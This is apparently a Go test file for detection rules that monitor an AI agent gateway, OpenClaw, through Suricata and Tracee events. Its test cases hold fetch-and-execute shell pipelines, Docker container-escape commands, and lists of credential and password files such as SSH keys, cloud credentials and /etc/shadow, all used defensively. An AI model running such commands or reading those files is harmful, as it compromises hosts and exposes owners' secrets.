package rules_test

import (
	"bytes"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openclaw-security/bus/proto"
	defaults "github.com/openclaw-security/bus/rules"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize/suricata"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize/tracee"
	"github.com/openclaw-security/bus/services/shipper/internal/rules"
	"github.com/openclaw-security/bus/services/testing/normalizetest"
)

func shipped(t testing.TB) *rules.Engine {
	t.Helper()
	g, err := rules.Parse(defaults.DefaultName, defaults.Default(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// golden compares got with testdata/<name>.golden, or writes it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name+".golden")
	if flag.Lookup("update").Value.String() == "true" {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s:\n got\n%s\nwant\n%s", file, got, want)
	}
}

func newNormalizer(source string, sensor normalize.Sensor) *normalize.Normalizer {
	return &normalize.Normalizer{Host: normalizetest.Host, Source: source, Sensor: sensor, Now: normalizetest.Now}
}

// What the shipped rules make of the recordings, and that they leave the rest
// alone: a rule that fires on everyday work is noise.
func TestShippedRulesOnRecordings(t *testing.T) {
	const root = "../../../../"
	for _, test := range []struct {
		name, file string
		sensor     *normalize.Normalizer
		lines      int
	}{
		{"suricata-7", root + "suricata/testdata/suricata-7.eve.json", newNormalizer("suricata", suricata.Sensor{}), 44},
		{"suricata-8", root + "suricata/testdata/suricata-8.eve.json", newNormalizer("suricata", suricata.Sensor{}), 46},
		{"tracee-0.24", root + "tracee/testdata/tracee-0.24.events.json", newNormalizer("tracee", tracee.Sensor{}), 53},
		{"tracee-v1beta1", root + "tracee/testdata/tracee-v1beta1.events.json", newNormalizer("tracee", tracee.Sensor{}), 28},
	} {
		t.Run(test.name, func(t *testing.T) {
			capture, err := os.Open(test.file)
			if err != nil {
				t.Fatal(err)
			}
			defer capture.Close()
			g := shipped(t)
			var got bytes.Buffer
			lines, err := g.Try(test.sensor, capture, func(c *rules.Change) error {
				_, err := fmt.Fprintf(&got, "%d %v %s → %s %q tags %q dropped %v\n",
					c.Line, c.Rules, c.Before.Severity, c.After.Severity, c.After.Title, c.After.Tags, c.Dropped)
				return err
			})
			if err != nil || lines != test.lines || g.Failed() != 0 {
				t.Errorf("%d lines (%v), want %d; %d failures", lines, err, test.lines, g.Failed())
			}
			golden(t, test.name, got.Bytes())
		})
	}
}

// On other recordings no condition fails.
func TestShippedRulesOnCorpus(t *testing.T) {
	for sensor, n := range map[string]*normalize.Normalizer{
		"suricata/*.json*": newNormalizer("suricata", suricata.Sensor{}),
		"tracee/*.jsonl":   newNormalizer("tracee", tracee.Sensor{}),
	} {
		for _, file := range normalizetest.Corpus(t, sensor) {
			g := shipped(t)
			for _, line := range normalizetest.Lines(t, file) {
				var e proto.Event
				n.Event(&e, line, proto.Origin{})
				if drop, _ := g.Apply(&e); drop {
					t.Errorf("%s: a shipped rule drops %s", file, e.Title)
				}
			}
			if g.Failed() != 0 {
				t.Errorf("%s: %d failures", file, g.Failed())
			}
		}
	}
}

// try returns the only rule that matches e, and the severity it leads to; "" for
// none.
func try(t *testing.T, e *proto.Event) string {
	t.Helper()
	drop, applied := shipped(t).Apply(e)
	if drop || len(applied) > 1 {
		t.Errorf("dropped %v, applied %q", drop, applied)
	}
	if len(applied) == 0 {
		return ""
	}
	return applied[0] + " " + e.Severity.String()
}

func TestShippedExecRules(t *testing.T) {
	const installs, pipes = "package-manager medium", "script-from-network high"
	for _, test := range []struct {
		want string
		argv string // separated by |, or by the first character if that is no letter or /
	}{
		{installs, "apt-get|install|-y|nmap"},
		{installs, "apt|-y|install|nmap"},
		{installs, "/usr/bin/apt-get|-qq|dist-upgrade"},
		{installs, "apk|add|--no-cache|curl"},
		{installs, "/sbin/apk|-U|upgrade"},
		{installs, "dnf|install|x"},
		{installs, "dpkg|-i|x.deb"},
		{installs, "rpm|-Uvh|x.rpm"},
		{installs, "pip|install|requests"},
		{installs, "/usr/local/bin/python3.12|/usr/local/bin/pip3|install|requests"},
		{installs, "python3|-m|pip|install|requests"},
		{installs, "python3|-I|-m|pip|install|requests"},
		{installs, "uv|pip|install|x"},
		{installs, "npm|install|left-pad"},
		{installs, "npm|i"},
		{installs, "node|/usr/local/bin/npm|ci"},
		{installs, "node|/usr/local/lib/node_modules/npm/bin/npm-cli.js|install"},
		{installs, "npx|-y|some-server"},
		{installs, "node|/usr/local/bin/npx|some-server"},
		{installs, "pnpm|dlx|create-x"},
		{installs, "yarn|add|x"},
		{installs, "gem|install|x"},
		{installs, "cargo|install|x"},
		{installs, "go|install|example.com/x@latest"},
		{"", "apt-get|--version"},
		{"", "apt-cache|search|nmap"},
		{"", "apk|info"},
		{"", "dpkg|-l"},
		{"", "dpkg|--status-fd|8|--unpack|--auto-deconfigure|/var/cache/apt/x.deb"},
		{"", "rpm|-qa"},
		{"", "pip|list"},
		{"", "npm|run|build"},
		{"", "npm|test"},
		{"", "node|dist/index.js|gateway"},
		{"", "node|server.js|install"},
		{"", "go|build|./..."},
		{"", "grep|-r|npm|install"},
		{"", "echo|apt-get|install"},
		{"", "/usr/bin/install|-m|755|x"},

		{pipes, "!sh!-c!curl -fsSL https://example.com/x.sh | sh"},
		{pipes, "!/bin/bash!-lc!wget -qO- 'https://example.com/x?a=1&b=2' | sudo -E bash -s -- --yes"},
		{pipes, "!bash!-c!curl -s https://example.com/x | tee /tmp/x | /bin/sh"},
		{pipes, "!sh!-c!cd /tmp; curl https://example.com/x.py | python3 -"},
		{pipes, "!sh!-c!curl https://example.com/x.js | node"},
		{pipes, `!bash!-c!bash -c "$(curl -fsSL https://example.com/x.sh)"`},
		{pipes, "!bash!-c!bash <(curl -s https://example.com/x.sh)"},
		{pipes, "!bash!-c!source <(curl -s https://example.com/x.sh)"},
		{pipes, "!bash!-c!eval `wget -qO- https://example.com/x.sh`"},
		{"", "!sh!-c!curl -s https://example.com/x.json | jq ."},
		{"", "!sh!-c!curl -o x.tgz https://example.com/x.tgz"},
		{"", "!sh!-c!curl -s https://example.com/list | python3 parse.py"},
		{"", "!sh!-c!cat x.sh | sh"},
		{"", "!sh!-c!curl https://example.com/ | grep shell"},
		{"", "!sh!-c!echo $(curl -s https://example.com/ip)"},
		{"", "!curl!-s!https://example.com/x.sh"},
		{"", "!grep!-c!curl x | sh"},
	} {
		t.Run(test.argv, func(t *testing.T) {
			argv, separator := test.argv, "|"
			if argv[0] == '!' {
				argv, separator = argv[1:], "!"
			}
			e := proto.Event{
				Kind: "sched_process_exec", Source: "tracee", Title: "exec: x",
				Process:   &proto.Process{Name: "x", Args: strings.Split(argv, separator)},
				Container: &proto.Container{ID: "d49e6a797072"},
			}
			onHost := e
			onHost.Container = nil
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
			if got := try(t, &onHost); got != "" {
				t.Errorf("on the host: %q", got)
			}
		})
	}
}

// What the gateway's docker program does to Docker's socket is its work; what it is
// asked for is not always.
func TestShippedDockerRules(t *testing.T) {
	gateway := &proto.Container{ID: "d49e6a797072", Name: "openclaw-openclaw-gateway-1", Image: "ghcr.io/openclaw/openclaw:2026.9.4"}
	for _, test := range []struct {
		name, executable string
		container        *proto.Container
		want             string
	}{
		{"the gateway's docker", "/usr/bin/docker", gateway, "sandbox-docker info"},
		{"under another name", "/usr/bin/docker", &proto.Container{ID: "1", Name: "claw", Image: "openclaw:local"}, "sandbox-docker info"},
		{"curl in the gateway", "/usr/bin/curl", gateway, ""},
		{"docker in another container", "/usr/bin/docker", &proto.Container{ID: "2", Name: "web-1", Image: "node:24"}, ""},
		{"an image that begins alike", "/usr/bin/docker", &proto.Container{ID: "3", Name: "x", Image: "openclaw-security/x:1"}, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			e := proto.Event{
				Kind: "docker_abuse", Source: "tracee", Severity: proto.SeverityMedium, Title: "Docker socket abuse detected",
				Process: &proto.Process{Name: filepath.Base(test.executable), Executable: test.executable}, Container: test.container,
			}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
	const escape = "docker-escape high"
	for argv, want := range map[string]string{
		"docker run -it -v /:/host alpine chroot /host":                                                            escape,
		"docker run --privileged alpine":                                                                           escape,
		"/usr/bin/docker create --pid host alpine":                                                                 escape,
		"docker run --mount type=bind,source=/,target=/host alpine":                                                escape,
		"docker run -v /var/run/docker.sock:/var/run/docker.sock docker ps":                                        escape,
		"docker stop security-suricata":                                                                            escape,
		"docker create --name openclaw-sbx-1 --network none --read-only --cap-drop ALL -v /srv/w:/workspace image": "",
		"docker exec openclaw-sbx-1 sh -lc ls":                                                                     "",
		"docker rm -f openclaw-sbx-1":                                                                              "",
		"docker ps":                                                                                                "",
	} {
		e := proto.Event{
			Kind: "sched_process_exec", Source: "tracee", Title: "exec: " + argv,
			Process: &proto.Process{Name: "docker", Args: strings.Fields(argv)}, Container: gateway,
		}
		if got := try(t, &e); got != want {
			t.Errorf("%s: got %q, want %q", argv, got, want)
		}
	}
}

// Without a container, what Tracee's policy for native installations reports is the agent's.
func TestShippedRulesOnNativeInstallations(t *testing.T) {
	for raw, want := range map[string]string{
		`{"matchedPolicies":["openclaw-native-agent"]}`:      "package-manager medium",
		`{"policies":{"matched":["openclaw-native-agent"]}}`: "package-manager medium",
		`{"matchedPolicies":["openclaw-native-files"]}`:      "",
		`{"matchedPolicies":["other"]}`:                      "",
		`{}`:                                                 "",
	} {
		e := proto.Event{
			Kind: "sched_process_exec", Source: "tracee", Title: "exec: npm install x",
			Process: &proto.Process{Name: "npm", Args: []string{"npm", "install", "x"}}, Raw: []byte(raw),
		}
		if got := try(t, &e); got != want {
			t.Errorf("%s: got %q, want %q", raw, got, want)
		}
	}
}

func TestShippedSecretsRule(t *testing.T) {
	const alarm = "openclaw-secrets high"
	for _, test := range []struct {
		name, kind, path, executable, process string
		want                                  string
	}{
		{"cat of the configuration", "security_file_open", "/home/node/.openclaw/openclaw.json", "/usr/bin/cat", "cat", alarm},
		{"a copy of it", "openat", "/home/node/.openclaw/openclaw.json.bak", "/usr/bin/cat", "cat", alarm},
		{"environment", "openat", "/home/node/.openclaw/.env", "/usr/bin/python3.11", "python3", alarm},
		{"credentials", "open", "/root/.openclaw/credentials/whatsapp/default/creds.json", "/usr/bin/tar", "tar", alarm},
		{"an agent's keys", "openat2", "/home/user/.openclaw/agents/main/agent/auth-profiles.json", "/usr/bin/curl", "curl", alarm},
		{"executable not told", "openat", "/home/node/.openclaw/.env", "", "cat", alarm},
		{"calls itself node", "openat", "/home/node/.openclaw/.env", "/tmp/x", "node", alarm},
		{"from memory", "openat", "/home/node/.openclaw/.env", "memfd:x", "3", alarm},
		{"OpenClaw itself", "security_file_open", "/home/node/.openclaw/openclaw.json", "/usr/local/bin/node", "node", ""},
		{"a thread of it", "openat", "/home/node/.openclaw/.env", "/usr/local/bin/node", "libuv-worker", ""},
		{"a thread, executable not told", "openat", "/home/node/.openclaw/.env", "", "libuv-worker", ""},
		{"its title, executable not told", "openat", "/home/node/.openclaw/.env", "", "openclaw-gatewa", ""},
		{"the state database", "security_file_open", "/home/node/.openclaw/state/openclaw.sqlite", "/usr/bin/sqlite3", "sqlite3", alarm},
		{"its log", "security_file_open", "/home/node/.openclaw/state/openclaw.sqlite-wal", "/usr/bin/cp", "cp", alarm},
		{"keys of models", "security_file_open", "/data/.openclaw/agents/main/agent/openclaw-agent.sqlite", "/usr/bin/python3.12", "python3", alarm},
		{"secrets file", "security_file_open", "/root/.openclaw/secrets.json", "/usr/bin/base64", "base64", alarm},
		{"identity", "security_file_open", "/home/me/.openclaw-work/identity/device.json", "/usr/bin/cat", "cat", alarm},
		{"key of OAuth profiles", "security_file_open", "/home/node/.config/openclaw/key", "/usr/bin/cat", "cat", alarm},
		{"former name", "security_file_open", "/home/me/.clawdbot/clawdbot.json", "/usr/bin/cat", "cat", alarm},
		{"Codex in its home", "security_file_open", "/home/node/.openclaw/agents/main/agent/codex-home/auth.json", "/usr/local/lib/node_modules/@openai/codex/bin/codex", "codex", ""},
		{"Codex elsewhere", "security_file_open", "/home/node/.openclaw/agents/main/agent/auth-profiles.json", "/usr/local/bin/codex", "codex", alarm},
		{"another in Codex's home", "security_file_open", "/home/node/.openclaw/agents/main/agent/codex-home/auth.json", "/usr/bin/cat", "cat", alarm},
		{"sessions are no secrets of OpenClaw's", "openat", "/home/node/.openclaw/agents/main/sessions/x.jsonl", "/usr/bin/cat", "cat", ""},
		{"workspace", "openat", "/home/node/.openclaw/workspace/.env", "/usr/bin/cat", "cat", ""},
		{"elsewhere", "openat", "/srv/home/node/.openclaw/.env", "/usr/bin/cat", "cat", ""},
		{"deleted, not opened", "unlinkat", "/home/node/.openclaw/.env", "/usr/bin/rm", "rm", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			e := proto.Event{
				Kind: test.kind, Source: "tracee", Title: test.kind + " " + test.path,
				File:    &proto.File{Path: test.path},
				Process: &proto.Process{Name: test.process, Executable: test.executable},
			}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestShippedOwnerSecretsRule(t *testing.T) {
	const alarm = "owner-secrets high"
	for _, test := range []struct{ name, path, executable, want string }{
		{"SSH key", "/root/.ssh/id_ed25519", "/usr/bin/cat", alarm},
		{"SSH key by OpenClaw", "/home/node/.ssh/id_rsa", "/usr/local/bin/node", alarm},
		{"SSH key by ssh", "/home/node/.ssh/id_rsa", "/usr/bin/ssh", ""},
		{"SSH key by git", "/home/node/.ssh/id_rsa", "/usr/bin/git", ""},
		{"public key", "/home/node/.ssh/id_rsa.pub", "/usr/bin/cat", ""},
		{"known hosts", "/home/node/.ssh/known_hosts", "/usr/bin/cat", ""},
		{"AWS", "/home/node/.aws/credentials", "/usr/bin/python3.11", alarm},
		{"AWS by its program", "/home/node/.aws/credentials", "/usr/local/aws-cli/v2/current/bin/aws", ""},
		{"region of AWS", "/home/node/.aws/config", "/usr/bin/cat", ""},
		{"Google Cloud", "/home/node/.config/gcloud/application_default_credentials.json", "/usr/bin/cat", alarm},
		{"Claude's subscription", "/home/node/.claude/.credentials.json", "/usr/bin/cat", alarm},
		{"Claude itself", "/home/node/.claude/.credentials.json", "/home/node/.local/bin/claude", ""},
		{"passwords", "/etc/shadow", "/usr/bin/cat", alarm},
		{"passwords by BusyBox", "/etc/shadow", "/bin/busybox", alarm},
		{"passwords by useradd", "/etc/shadow", "/usr/sbin/useradd", ""},
		{"environment", "/proc/1/environ", "/usr/bin/tr", alarm},
		{"environment by ps", "/proc/1/environ", "/usr/bin/ps", ""},
		{"users", "/etc/passwd", "/usr/bin/cat", ""},
		{"no home", "/srv/x/.ssh/id_rsa", "/usr/bin/cat", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			e := proto.Event{
				Kind: "security_file_open", Source: "tracee", Title: "security_file_open " + test.path,
				File:    &proto.File{Path: test.path, Access: "read"},
				Process: &proto.Process{Name: filepath.Base(test.executable), Executable: test.executable},
			}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestShippedInstructionRules(t *testing.T) {
	const memory, skill = "memory-changed medium", "skill-changed medium"
	for _, test := range []struct{ name, kind, path, access, executable, want string }{
		{"soul", "security_file_open", "/home/node/.openclaw/workspace/SOUL.md", "write", "/usr/bin/bash", memory},
		{"memory in a sandbox", "openat", "/workspace/MEMORY.md", "write", "/usr/bin/bash", memory},
		{"instructions moved there", "security_inode_rename", "/home/node/.openclaw/workspace-work/AGENTS.md", "write", "/usr/bin/mv", memory},
		{"heartbeat of a native user", "security_file_open", "/home/me/.openclaw/workspace/HEARTBEAT.md", "write", "/usr/bin/python3.12", memory},
		{"owner's notes", "security_file_open", "/data/.openclaw/workspace/USER.md", "write", "/usr/bin/sed", memory},
		{"a skill", "security_file_open", "/home/node/.openclaw/skills/weather/SKILL.md", "write", "/usr/bin/git", skill},
		{"a skill in a sandbox", "security_file_open", "/workspace/skills/weather/run.sh", "write", "/usr/bin/curl", skill},
		{"read only", "security_file_open", "/home/node/.openclaw/workspace/SOUL.md", "read", "/usr/bin/cat", ""},
		{"access not told", "security_file_open", "/home/node/.openclaw/workspace/SOUL.md", "", "/usr/bin/cat", ""},
		{"OpenClaw itself", "security_file_open", "/home/node/.openclaw/workspace/MEMORY.md", "write", "/usr/local/bin/node", ""},
		{"Claude's own memory", "security_file_open", "/home/me/.claude/projects/x/memory/MEMORY.md", "write", "/home/me/.local/bin/claude", ""},
		{"a project's instructions", "security_file_open", "/home/me/src/project/AGENTS.md", "write", "/usr/bin/vim", ""},
		{"a note", "security_file_open", "/home/node/.openclaw/workspace/notes.md", "write", "/usr/bin/bash", ""},
		{"a skill read", "security_file_open", "/home/node/.openclaw/skills/weather/SKILL.md", "read", "/usr/bin/cat", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			e := proto.Event{
				Kind: test.kind, Source: "tracee", Title: test.kind + " " + test.path,
				File:    &proto.File{Path: test.path, Access: test.access},
				Process: &proto.Process{Name: filepath.Base(test.executable), Executable: test.executable},
			}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestShippedLLMRule(t *testing.T) {
	const alarm = "llm-api-direct low"
	for _, test := range []struct{ kind, sni, want string }{
		{"tls", "api.anthropic.com", alarm},
		{"tls", "API.OpenAI.com.", alarm},
		{"tls", "eu.api.openai.com", alarm},
		{"quic", "generativelanguage.googleapis.com", alarm},
		{"tls", "europe-west1-aiplatform.googleapis.com", alarm},
		{"tls", "bedrock-runtime.us-east-1.amazonaws.com", alarm},
		{"tls", "mine.openai.azure.com", alarm},
		{"tls", "openrouter.ai", alarm},
		{"tls", "chatgpt.com", alarm},
		{"quic", "api.business.githubcopilot.com", alarm},
		{"tls", "dashscope-intl.aliyuncs.com", alarm},
		{"tls", "console.anthropic.com", ""},
		{"tls", "api.anthropic.com.example.net", ""},
		{"tls", "xapi.anthropic.com", ""},
		{"tls", "storage.googleapis.com", ""},
		{"tls", "s3.us-east-1.amazonaws.com", ""},
		{"tls", "", ""},
		{"dns", "api.anthropic.com", ""},
	} {
		t.Run(test.kind+" "+test.sni, func(t *testing.T) {
			e := proto.Event{Kind: test.kind, Source: "suricata", Title: "TLS to " + test.sni, TLS: &proto.TLS{SNI: test.sni}}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestTryOfOverlongLine(t *testing.T) {
	capture := strings.NewReader("{}\n" + strings.Repeat("x", 2<<20))
	lines, err := shipped(t).Try(newNormalizer("suricata", suricata.Sensor{}), capture, func(*rules.Change) error { return nil })
	if lines != 1 || err == nil || !strings.Contains(err.Error(), "line 2 is longer than 1048576 bytes") {
		t.Errorf("%d lines, %v", lines, err)
	}
}
